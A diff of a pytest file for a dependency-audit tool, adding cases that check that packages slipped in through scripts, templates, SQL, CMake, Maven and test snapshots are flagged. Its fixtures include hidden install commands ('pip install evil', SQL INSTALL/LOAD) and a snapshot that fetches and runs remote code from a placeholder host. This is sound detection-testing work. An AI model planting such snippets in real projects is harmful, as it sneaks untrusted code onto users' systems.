@@ -9,7 +9,7 @@ import pytest
 
 from tests.proof.trial import Trial, only, quiet
 from trued.model import DependenciesCheck, Grade
-from trued.proof.checks.dependencies import declared_by, newly_declared, own_packages, unread_additions
+from trued.proof.checks.dependencies import newly_declared, unread_additions
 from trued.proof.checks.package_manifests import declared_in, is_package_manifest
 from trued.proof.contract import check_hash
 from trued.proof.seal import SealTerms, seal
@@ -295,9 +295,8 @@ async def read(head: Mapping[str, str | None], base: Mapping[str, str], *links: 
     whole = {path: text for path, text in {**base, **head}.items() if text is not None}
     commits = cast(Workspace, Commits(base, whole, frozenset(links)))
     changed = [path for path in {**base, **whole} if base.get(path) != whole.get(path)]
-    before, after = await declared_by(commits, "base"), await declared_by(commits, "head")
-    if new := newly_declared(before, after, await own_packages(commits, "base")):
-        return f"declares {', '.join(new)}"
+    if new := await newly_declared(commits, "base", "head"):
+        return f"declares {', '.join(sorted(new))}"
     left = await unread_additions(commits, "base", "head", changed, ((), sys.stdlib_module_names))
     return f"unread {', '.join(left)}" if left else "proven"
 
@@ -399,6 +398,7 @@ READ_WHOLE: dict[str, dict[str, str | None]] = {
     "a folder of the project under a short name": {
         "index.js": "import a from '@/hooks/a';\nimport b from '~/b';\n",
         "src/hooks/a.js": "export default 1;\n",
+        "src/b/index.ts": "export default 1;\n",
     },
     "a snapshot of a test": {
         "__snapshots__/index.test.js.snap": "exports[`a 1`] = `<a href='https://a.example/x'>evil things</a>`;\n"
@@ -629,8 +629,11 @@ def web(version: str, name: str = "@acme/core") -> str:
         ({"packages/web/package.json": web("^1.0.0"), "packages/web/app.js": USES}, "proven"),
         ({"packages/web/package.json": web("workspace:*"), "packages/web/app.js": USES}, "proven"),
         ({"packages/web/package.json": web("file:../core")}, "proven"),
-        ({"packages/web/package.json": web("file:../../../core")}, "declares @acme/core @ file:../../../core"),
-        ({"packages/web/package.json": web("npm:evil@1")}, "declares @acme/core @ npm:evil@1"),
+        (
+            {"packages/web/package.json": web("file:../../../core")},
+            "declares @acme/core, @acme/core @ file:../../../core",
+        ),
+        ({"packages/web/package.json": web("npm:evil@1")}, "declares @acme/core, @acme/core @ npm:evil@1"),
         ({"packages/web/package.json": web("*", "evil")}, "declares evil"),
         (
             {"packages/web/package.json": web("*", "new"), "packages/new/package.json": '{"name": "new"}'},
@@ -646,12 +649,12 @@ def web(version: str, name: str = "@acme/core") -> str:
         ),
         (
             {"libs/web/pyproject.toml": f"{UV_WEB}[tool.uv.sources]\nacme-core = {{git = 'https://x.example/e'}}\n"},
-            "declares acme-core @ https://x.example/e, git, git @ https://x.example/e",
+            "declares acme-core, acme-core @ https://x.example/e, git, git @ https://x.example/e",
         ),
         ({"crates/cli/Cargo.toml": CRATE.format("acme-core = {path = '../core'}")}, "proven"),
         (
             {"crates/cli/Cargo.toml": CRATE.format("acme-core = {package = 'evil', path = '../core'}")},
-            "declares acme-core @ evil ../core",
+            "declares acme-core, acme-core @ evil ../core",
         ),
         ({"crates/cli/Cargo.toml": CRATE.format("evil = {path = '../evil'}")}, "declares evil, evil @ ../evil"),
         (
@@ -667,3 +670,101 @@ def web(version: str, name: str = "@acme/core") -> str:
 )
 async def test_a_package_of_the_project_itself_is_no_new_dependency(head: dict[str, str | None], found: str) -> None:
     assert await read(head, WORKSPACE) == found
+
+
+TOOLS = {
+    **BASE,
+    "NEWS": "old\n",
+    "scripts/changelog": "#!/bin/sh\necho news\n",
+    "deps/a.txt": "attrs\n",
+    "Makefile": "all:\n\tcat deps/*.txt tests/*/all/*.txt | xargs pip install\n",
+    "CMakeLists.txt": "add_subdirectory(tests)\n",
+    "tests/CMakeLists.txt": "add_subdirectory(unit)\n",
+    "server.py": "PLACES = ['server', 'templates', 'sql']\n",
+    "server/pom.xml": "<project>\n</project>\n",
+    "noxfile.py": "from tests.helper import go\n",
+    "tests/helper.py": "def go(session):\n    session.install('-e', '.')\n",
+    "vite.config.js": "export default {resolve: {alias: {'@': './src'}}};\n",
+}
+MISREAD: dict[str, dict[str, str | None]] = {
+    "script called changelog": {"scripts/changelog": "#!/bin/sh\npip install evil\n"},
+    "list called news": {"deps/news.txt": "evil\n"},
+    "wild two levels": {"tests/a/all/x.txt": "evil\n"},
+    "cmake in tests": {"tests/CMakeLists.txt": "add_subdirectory(unit)\nfind_package(evil)\n"},
+    "cmake in tests/unit": {"tests/unit/CMakeLists.txt": "CPMAddPackage('gh:evil/evil@1')\n"},
+    "pom": {"server/pom.xml": "<project>\n<dependency><artifactId>evil</artifactId></dependency></project>\n"},
+    "base's driver runs helper": {
+        "tests/helper.py": "def go(session):\n    session.install('-r', 'tests/data/list.txt')\n",
+        "tests/data/list.txt": "evil\n",
+    },
+    "alias": {
+        "vite.config.js": "export default {resolve: {alias: {'@': 'evil'}}};\n",
+        "index.js": "import a from '@/x';\n",
+    },
+    "snap fetch": {
+        "__snapshots__/a.test.js.snap": "exports[`a`] = `${fetch('https://x.example/e.js').then(setTimeout)}`;\n"
+    },
+    "Dockerfile.j2": {"templates/Dockerfile.j2": "RUN pip install evil\n"},
+    "script built in j2": {"templates/a.html.j2": "<script src=\"{{ '/' }}/cdn.example/evil.js\"></script>\n"},
+    "sql": {"sql/a.sql": "INSTALL evil; LOAD evil;\n"},
+    "sql psql": {"sql/a.sql": "\\! pip install evil\n"},
+    "isort": {"pyproject.toml": MANIFEST + "[tool.isort]\nformatter = 'evil'\n"},
+    "graphql": {"sql/a.graphql": '#import "evil/a.graphql"\n'},
+}
+FROM_ELSEWHERE: dict[str, dict[str, str | None]] = {
+    "npm name in python list": {"requirements.txt": "root\n"},
+    "npm name as python dep": {
+        "pyproject.toml": WORKSPACE["pyproject.toml"].replace(
+            "version = '1'", "version = '1'\ndependencies=['acme-cli']"
+        )
+    },
+    "cargo name from registry": {"crates/cli/Cargo.toml": CRATE.format("acme-core = '1'")},
+    "python name from pypi": {"libs/web/pyproject.toml": UV_WEB},
+    "npm range not satisfied": {"packages/web/package.json": web("99.0.0")},
+    "npm tag": {"packages/web/package.json": web("latest")},
+    "npm renamed at head": {
+        "packages/web/package.json": web("*"),
+        "packages/core/package.json": '{"name": "@acme/kernel", "version": "1.0.0"}',
+    },
+    "npm removed at head": {
+        "packages/web/package.json": web("*"),
+        "packages/core/package.json": None,
+        "packages/core/index.js": None,
+    },
+    "npm no workspace at head": {"packages/web/package.json": web("*"), "package.json": '{"name": "root"}'},
+    "npm outside the workspace": {"other/package.json": '{"dependencies": {"@acme/core": "*"}}'},
+    "npm root by name": {"packages/web/package.json": web("*", "root")},
+    "optional over path": {
+        "packages/web/package.json": WORKSPACE["packages/web/package.json"].replace(
+            '"dependencies"',
+            '"optionalDependencies": {"@acme/core": "99"}, "dependencies": {"@acme/core": "file:../core"}, "dev"',
+        )
+    },
+    "same path from another folder": {
+        "packages/web/package.json": web("file:../core"),
+        "zz/package.json": '{"dependencies": {"@acme/core": "file:../core"}}',
+    },
+    "workspace path": {"packages/web/package.json": web("workspace:../../../evil")},
+    "import of root": {"packages/web/app.js": "import pad from 'pad';\nimport x from 'root';\n"},
+    "import of a python dist": {"packages/web/app.js": "import pad from 'pad';\nimport x from 'acme-cli';\n"},
+}
+
+
+@pytest.mark.spec("DAY-9", "LAW-11")
+@pytest.mark.parametrize("name", MISREAD)
+async def test_no_ordinary_kind_of_file_hides_a_package(name: str) -> None:
+    assert (await read(MISREAD[name], TOOLS)).startswith("unread ")
+
+
+@pytest.mark.spec("DAY-9", "LAW-11")
+@pytest.mark.parametrize("name", FROM_ELSEWHERE)
+async def test_the_name_of_an_own_package_is_not_enough(name: str) -> None:
+    """A registry may have another package of this name."""
+    assert await read(FROM_ELSEWHERE[name], WORKSPACE) != "proven"
+
+
+@pytest.mark.spec("DAY-9")
+async def test_settings_of_isort_that_load_nothing_are_read() -> None:
+    settings = "[tool.isort]\nprofile = 'black'\nknown_first_party = 'kit'\n"
+    assert await read({"pyproject.toml": MANIFEST + settings}, TOOLS) == "proven"
+    assert await read({"sql/a.sql": "CREATE TABLE orders (id INTEGER);\n"}, TOOLS) == "proven"
